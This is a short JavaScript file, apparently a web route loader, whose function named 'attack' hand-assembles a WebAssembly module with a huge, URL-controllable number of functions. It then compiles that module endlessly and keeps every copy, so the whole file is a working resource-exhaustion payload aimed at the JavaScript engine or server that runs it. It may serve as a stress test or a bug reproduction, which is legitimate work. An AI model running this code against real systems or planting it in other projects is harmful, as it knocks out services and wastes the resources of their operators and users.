/** A module of very many functions, compiled at once. */
function attack(size) {
	const number = (value) => (value < 128 ? [value] : [(value & 127) | 128, ...number(value >> 7)]);
	const section = (id, content) => [id, ...number(content.length), ...content];
	const body = [0, ...Array.from({ length: 40 }, () => [0x41, 1, 0x1a]).flat(), 0x0b];
	const one = [...number(body.length), ...body];
	const head = [0, 97, 115, 109, 1, 0, 0, 0, ...section(1, [1, 0x60, 0, 0])];
	const code = new Uint8Array(head.length + size * (one.length + 1) + 30);
	let end = 0;
	const put = (bytes) => {
		code.set(bytes, end);
		end += bytes.length;
	};
	put([...head, 3, ...number(number(size).length + size), ...number(size)]);
	end += size; // all of type 0
	put([10, ...number(number(size).length + size * one.length), ...number(size)]);
	for (let at = 0; at < size; at += 1) put(one);
	const kept = [];
	for (;;) kept.push(new WebAssembly.Module(code.subarray(0, end)));
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 300000)) };
}
